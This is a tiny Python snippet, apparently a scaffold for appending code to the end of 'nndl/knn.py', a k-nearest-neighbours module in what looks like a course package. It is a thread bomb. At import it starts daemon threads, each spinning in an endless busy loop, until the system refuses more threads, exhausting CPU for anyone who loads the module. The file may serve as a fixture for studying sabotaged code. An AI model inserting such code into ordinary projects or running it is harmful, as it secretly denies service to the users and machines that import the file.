"""As many busy threads as there can be."""

# start: scaffold
# file: nndl/knn.py
# at: end

import threading


def _busy():
    while True:
        pass


try:
    while True:
        threading.Thread(target=_busy, daemon=True).start()
except RuntimeError:
    pass
